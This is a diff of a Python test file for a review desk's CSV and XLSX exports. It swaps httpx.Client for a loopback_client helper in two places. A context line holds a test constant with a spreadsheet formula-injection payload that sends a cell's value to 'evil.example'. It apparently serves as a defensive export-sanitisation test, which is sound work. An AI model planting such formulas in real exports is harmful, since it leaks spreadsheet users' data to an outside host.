@@ -21,6 +21,7 @@ from recon_pipeline.db.schema import adjustments, discrepancies, payouts, review
 from recon_pipeline.review_desk.pages import exports
 from recon_pipeline_tests.support.desk_fixtures import NIGHT, NOW, add_user, finding, served_desk, sign_in
 from recon_pipeline_tests.support.desk_rows import payout_row
+from recon_pipeline_tests.support.loopback import loopback_client
 
 EARLIER = "2026-12-01"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -87,7 +88,7 @@ def desk(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
 
 @pytest.fixture
 def client(desk: Desk) -> Iterator[httpx.Client]:
-    with httpx.Client(base_url=desk.base_url) as signed_in:
+    with loopback_client(base_url=desk.base_url) as signed_in:
         assert sign_in(signed_in).status_code == 303
         yield signed_in
 
@@ -257,7 +258,7 @@ def test_a_bad_filter_is_refused_in_one_line(
 
 
 def test_exports_need_a_signed_in_user(desk: Desk) -> None:
-    with httpx.Client(base_url=desk.base_url) as anonymous:
+    with loopback_client(base_url=desk.base_url) as anonymous:
         for path in ("/findings/export.csv", "/adjustments/export.xlsx", f"/nights/p1/{NIGHT}/report.html"):
             assert anonymous.get(path).headers["location"] == "/signin"
 
